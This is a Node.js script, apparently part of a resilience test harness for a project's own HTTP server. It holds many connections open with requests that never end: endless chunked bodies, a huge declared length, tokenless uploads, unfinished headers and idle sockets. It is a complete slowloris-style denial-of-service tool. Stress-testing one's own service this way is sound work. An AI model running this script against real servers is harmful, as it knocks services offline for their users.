/**
 * Attacker: requests that never end, on as many connections as the node takes and more.
 *
 * Arguments: http, seconds, share (of a core), connections, everyMs (between two pieces on a connection), kind: "body" sends
 * GET /healthz with a chunked body without end, "length" one that announces its length, "upload" a POST without the token,
 * "head" a head without end, "idle" nothing at all, "mixed" one of them in turn.
 */
import { connect } from 'node:net';
import { argumentsOf, endAfter, held, pause } from './held.mjs';

const { http, seconds, share, connections, everyMs, kind } = argumentsOf({
  connections: 128,
  everyMs: 50,
  kind: 'mixed',
});
const { hostname, port, host } = new URL(http);
const KINDS = {
  body: { head: `GET /healthz HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n`, piece: '1\r\nx\r\n' },
  length: { head: `GET /healthz HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 1000000000\r\n\r\n`, piece: 'x' },
  upload: {
    head: `POST /channels HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/x-ndjson\r\nTransfer-Encoding: chunked\r\n\r\n`,
    piece: '1\r\n\n\r\n',
  },
  head: { head: `GET /healthz HTTP/1.1\r\nHost: ${host}\r\n`, piece: 'X: y\r\n' },
  idle: { head: '', piece: '' },
};
const counts = { connected: 0, pieces: 0, closed: 0, answers: {} };
endAfter(seconds, counts);

async function attack({ head, piece }) {
  const socket = connect(Number(port), hostname, () => {
    counts.connected++;
    if (head !== '') socket.write(head);
  });
  let open = true;
  socket.on('data', (data) => {
    const status = /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1];
    if (status !== undefined) counts.answers[status] = (counts.answers[status] ?? 0) + 1;
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    open = false;
    counts.closed++;
  });
  while (open) {
    await pause(everyMs);
    await held(share);
    if (piece === '' || !socket.writable) continue;
    socket.write(piece);
    counts.pieces++;
  }
}

async function attackForEver(index) {
  const names = Object.keys(KINDS);
  for (let round = 0; ; round++) {
    await held(share);
    await attack(KINDS[kind === 'mixed' ? names[(index + round) % names.length] : kind]);
  }
}
for (let index = 0; index < connections; index++) void attackForEver(index);
